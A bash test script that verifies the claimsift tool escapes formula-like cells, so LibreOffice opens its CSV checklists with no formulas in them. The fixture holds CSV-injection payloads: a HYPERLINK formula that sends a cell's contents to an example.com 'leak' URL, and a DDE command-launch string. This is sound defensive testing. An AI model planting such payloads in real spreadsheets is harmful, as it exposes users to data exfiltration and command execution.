#!/usr/bin/env bash
# Spreadsheet safety in a real spreadsheet engine (issue #4): checklists written by claimsift
# are opened by LibreOffice Calc headless and saved as xlsx, and no cell of the result may
# hold a formula. A control file with the same cells left unescaped must give formulas, which
# proves the engine was set to evaluate them (otherwise the check would prove nothing).
#
# Needs soffice (Debian: libreoffice-calc-nogui) and unzip; .ci/run installs both.
# Run from anywhere: bash tests/spreadsheet/check.sh
set -euo pipefail
cd "$(dirname "$0")/../.."

for tool in soffice unzip; do
    if ! command -v "$tool" >/dev/null; then
        echo "spreadsheet check: $tool not found (apt-get install libreoffice-calc-nogui unzip)" >&2
        exit 1
    fi
done

cargo build --quiet
bin="${CARGO_TARGET_DIR:-target}/debug/claimsift"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT

# An article whose sentences start as formulas (OWASP's CSV-injection examples).
cat >"$work/hostile.txt" <<'ARTICLE'
=HYPERLINK("http://example.com/leak?"&A1,"Click") says 40 people came.

+SUM(1,2) is what 12 voters wrote.

-2+3 was the sum 30 pupils gave.

@cmd ran 7 times on the server.

=cmd|' /C calc'!A0 was typed 3 times.
ARTICLE
"$bin" extract "$work/hostile.txt" -o "$work/extracted.csv"

# A reviewed checklist: hostile notes and a user column set through claimsift mark (so the
# file is rewritten by the checklist writer), and negative values that must stay numbers.
header="id,status,verdict,priority,score,kind,claim,value,unit,qualifier,cues,speaker,sentence,source,line,start,end,notes,=user column"
{
    echo "$header"
    echo "r1,todo,,high,80,change,fell 5,-5,%,exact,,,Prices fell 5.,a.txt,1,7,13,,x"
    echo "r2,todo,,high,70,range,-10 to 15,-10..15,C,exact,,,It was -10 to 15.,a.txt,2,7,16,,y"
    echo "r3,todo,,low,10,count,3,3,,exact,,,It had 3.,-,3,7,8,,z"
    echo "r4,todo,,low,10,count,4,4,,exact,,,It had 4.,a.txt,4,7,8,,z"
    echo "r5,todo,,low,10,count,5,5,,exact,,,It had 5.,a.txt,5,7,8,,z"
} >"$work/reviewed.csv"
"$bin" mark "$work/reviewed.csv" r1 --verdict accurate --note '=1+2'
"$bin" mark "$work/reviewed.csv" r2 --note '+SUM(1,2)'
"$bin" mark "$work/reviewed.csv" r3 --note '@SUM(1,1)'
"$bin" mark "$work/reviewed.csv" r4 --note ' =1+2'
"$bin" mark "$work/reviewed.csv" r5 --note "$(printf '\t=1+2')"

# The control: the same kind of cells, unescaped. With "trim spaces" on, the one behind a
# leading space becomes a formula too: why claimsift escapes with an apostrophe, never a space.
cat >"$work/control.csv" <<'CSV'
id,notes
c1,=1+2
c2,=SUM(1;2)
c3, =1+2
CSV

# The harshest import a user could choose: evaluate formulas, trim spaces, detect numbers
# (filter tokens 8, 11 and 13), then LibreOffice's defaults; each with the number of formulas
# the control must give.
options=(
    "CSV:44,34,76,1,,1033,false,true,false,false,true,-1,true"
    ""
)
control_formulas=(3 2)

formulas() { # xlsx -> number of <f> elements in its first sheet
    unzip -p "$1" xl/worksheets/sheet1.xml | { grep -o '<f[ >]' || true; } | wc -l
}

convert() { # csv options -> xlsx path
    local csv="$1" opt="$2" out="$work/out-$RANDOM"
    mkdir -p "$out"
    local args=(--headless "-env:UserInstallation=file://$work/profile" --convert-to xlsx --outdir "$out")
    if [ -n "$opt" ]; then args+=("--infilter=$opt"); fi
    soffice "${args[@]}" "$csv" >/dev/null 2>&1
    local name
    name="$(basename "$csv" .csv).xlsx"
    if [ ! -s "$out/$name" ]; then
        echo "spreadsheet check: LibreOffice did not convert $csv" >&2
        exit 1
    fi
    echo "$out/$name"
}

passed=0
failed=0
check() { # description, command...
    local what="$1"
    shift
    if "$@"; then
        echo "ok: $what"
        passed=$((passed + 1))
    else
        echo "FAILED: $what"
        failed=$((failed + 1))
    fi
}

for i in "${!options[@]}"; do
    opt="${options[$i]}"
    label="${opt:-default import}"
    control="$(convert "$work/control.csv" "$opt")"
    n="$(formulas "$control")"
    check "control.csv: ${control_formulas[$i]} unescaped cells are formulas ($label; found $n)" \
        test "$n" -eq "${control_formulas[$i]}"
    for csv in extracted reviewed; do
        xlsx="$(convert "$work/$csv.csv" "$opt")"
        n="$(formulas "$xlsx")"
        check "$csv.csv: no cell holds a formula ($label; found $n)" test "$n" -eq 0
        strings="$(unzip -p "$xlsx" xl/sharedStrings.xml)"
        if [ "$csv" = extracted ]; then
            check "$csv.csv: the HYPERLINK sentence is text ($label)" \
                grep -q "&apos;=HYPERLINK(&quot;http://example.com/leak" <<<"$strings"
        else
            sheet="$(unzip -p "$xlsx" xl/worksheets/sheet1.xml)"
            check "$csv.csv: value -5 stays a number ($label)" \
                grep -Eq '<c r="H2"[^>]*t="n"[^>]*><v>-5</v>' <<<"$sheet"
            check "$csv.csv: the note =1+2 is text ($label)" \
                grep -q "<t xml:space=\"preserve\">&apos;=1+2</t>" <<<"$strings"
        fi
    done
done

echo "spreadsheet: $passed passed, $failed failed"
[ "$failed" -eq 0 ]
